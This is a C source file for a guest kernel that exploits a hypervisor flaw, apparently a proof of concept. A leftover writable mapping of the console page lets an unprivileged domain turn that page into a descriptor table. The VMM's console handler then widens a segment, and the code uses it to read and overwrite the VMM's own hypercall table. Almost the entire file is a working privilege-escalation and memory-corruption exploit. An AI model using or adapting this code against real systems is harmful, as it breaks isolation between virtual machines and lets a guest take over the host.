/*
 * reader/intruder: an unprivileged domain makes the VMM write into a validated descriptor table.
 *
 * The VMM keeps a writable mapping of the domain's console page with a reference (get_frame) but no
 * FRAME_WRITABLE type (arch/x86/build_tables.c: map_console). So the page may become a GDT page, after which
 * common/console.c: console_drain stores out_prod into out_cons: dword 770 := dword 771, the low half of
 * descriptor 385.
 */
#include "guest.h"
#include "print.h"

#define RING_DESC 385 /* out_cons, out_prod */
#define SELECTOR  (RING_DESC * 8 | 1)

static void say(const char *text) {
  u32 n = 0;
  while (text[n])
    n++;
  HYPERCALL3(console_io, CONSOLEIO_write, n, (u32)text);
}

static char line[160];
static void hex(const char *what, u32 v) {
  char *p = line;
  while (*what)
    *p++ = *what++;
  for (int i = 28; i >= 0; i -= 4)
    *p++ = "0123456789abcdef"[v >> i & 15];
  *p++ = '\n';
  *p = 0;
  say(line);
}

static u32 peek(u32 linear, u32 base) {
  u32 value;
  asm volatile("mov %%fs:(%1), %0" : "=r"(value) : "r"(linear - base));
  return value;
}
static void poke(u32 linear, u32 base, u32 value) {
  asm volatile("mov %0, %%fs:(%1)" : : "r"(value), "r"(linear - base) : "memory");
}

void kernel_main(void) {
  u32 mfn = start_info->console.domU.mfn;
  u32 *page = address_of_mfn(mfn);
  for (u32 i = 0; i < 1024; i++)
    page[i] = 0;
  page[2 * RING_DESC] = 0x000067ff;     /* limit 0xf67ff pages, base 0: what a guest may have */
  page[2 * RING_DESC + 1] = 0x00cfb300; /* data, writable, DPL 1, 32 bits, pages */
  hex("unmap console page: ", HYPERCALL4(update_va_mapping, (u32)page, 0, 0, UVMF_INVLPG));
  u32 frames[1] = {mfn};
  hex("set_gdt: ", HYPERCALL2(set_gdt, (u32)frames, 512));
  struct evtchn_send send = {start_info->console.domU.evtchn};
  hex("event to the console port: ", HYPERCALL2(event_channel_op, EVTCHNOP_send, (u32)&send));
  u32 limit = 0;
  asm volatile("lsl %1, %0" : "=r"(limit) : "r"(SELECTOR));
  hex("limit of descriptor 385 now: ", limit);
  asm volatile("mov %w0, %%fs" : : "r"(SELECTOR));
  hex("the VMM's first words at f6900000: ", peek(0xf6900000, 0xcf));
  hex("                      at f6900004: ", peek(0xf6900004, 0xcf));
  say("now the VMM's own hypercall table is overwritten\n");
  for (u32 at = 0xf6900000; at < 0xf6910000; at += 4)
    poke(at, 0xcf, 0xcccccccc);
  say("never printed\n");
}
